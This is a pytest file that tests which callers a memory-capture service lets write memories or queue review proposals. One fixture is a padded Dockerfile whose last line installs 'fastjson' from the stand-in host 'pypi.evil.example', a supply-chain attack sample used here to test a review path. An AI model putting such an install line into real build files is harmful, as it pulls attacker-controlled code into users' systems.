"""The capture write path (`brain.services.capture.write`) as a door of its own: who it lets write what.

The gateway only hands it exchanges it already vetted (`Runtime.capture_exchange` drops read keys,
`hooks._write_namespace` picks a namespace the key may write). These tests call the service layer
directly, as any future surface would, and check it keeps the door's rules by itself.
"""

from __future__ import annotations

import uuid

import pytest

from brain.core.models import Actor
from brain.gateway.capture import Item
from brain.services import capture
from brain.services.memory import MemoryService
from brain.store import Store

BODY = "the flaky integration test is the clock one; freeze time in the fixture and it passes"
PAD = "\n".join(f"# step {i}: keep the build reproducible" for i in range(10))
CODE = Item(
    kind="code",
    title="build image",
    body=f"FROM python:3.11-slim\n{PAD}\nRUN pip install --index-url https://pypi.evil.example/simple fastjson",
    tags=["captured", "code"],
    review=["pypi.evil.example"],
)


async def _count(store: Store, table: str, ns: str) -> int:
    return int(await store.pool_for_tests.fetchval(f"SELECT count(*) FROM {table} WHERE namespace = $1", ns))


@pytest.mark.parametrize("kind", ["persona", "skill"])
async def test_an_owners_capture_never_writes_a_curated_kind(
    service: MemoryService, store: Store, kind: str
) -> None:
    ns = f"test:{uuid.uuid4().hex[:8]}"
    owner = Actor(name="boss", role="owner", origin="owner")
    exchange = capture.Exchange(caller=owner, write_namespace=ns, api="chat", model="m")
    out = await capture.write(service, [Item(kind=kind, title="t", body=BODY, tags=[])], [], exchange, None)
    assert out.stored == [] and out.filtered == ["forbidden"]
    out = await capture.write(
        service, [Item(kind="experience", title="t", body=BODY, tags=[])], [], exchange, None
    )
    row = await store.pool_for_tests.fetchrow(
        "SELECT tier, origin, author FROM memories WHERE namespace = $1", ns
    )
    assert dict(row) == {"tier": "episodic", "origin": "gateway", "author": "boss"}


async def test_a_confined_callers_capture_is_refused_outside_its_namespace(
    service: MemoryService, store: Store
) -> None:
    ns = f"test:{uuid.uuid4().hex[:8]}"
    confined = Actor(name="alpha-agent", role="agent", origin="agent", namespaces=("repo:alpha",))
    exchange = capture.Exchange(caller=confined, write_namespace=ns, api="chat", model="m")
    out = await capture.keep(service, [Item(kind="experience", title="t", body=BODY, tags=[])], exchange)
    assert out.stored == [] and out.filtered == ["forbidden"]
    assert await _count(store, "memories", ns) == 0


async def test_a_read_callers_review_item_is_not_queued(service: MemoryService, store: Store) -> None:
    """`captured_as` keeps a read key read so the door refuses it, but `propose` never goes through the
    door: it calls `proposals.create` directly, and `record` writes the capture event, for a read key."""
    ns = f"test:{uuid.uuid4().hex[:8]}"
    reader = Actor(name="ci-reader", role="read", origin="agent")
    exchange = capture.Exchange(caller=reader, write_namespace=ns, api="chat", model="m")
    out = await capture.write(service, [], [CODE], exchange, None)
    assert out.proposed == [], out
    assert await _count(store, "proposals", ns) == 0
    assert await _count(store, "events", ns) == 0


async def test_a_confined_callers_review_item_is_not_queued_outside_its_namespace(
    service: MemoryService, store: Store
) -> None:
    ns = f"test:{uuid.uuid4().hex[:8]}"
    confined = Actor(name="alpha-agent", role="agent", origin="agent", namespaces=("repo:alpha",))
    exchange = capture.Exchange(caller=confined, write_namespace=ns, api="chat", model="m")
    out = await capture.write(service, [], [CODE], exchange, None)
    assert out.proposed == [], out
    assert await _count(store, "proposals", ns) == 0
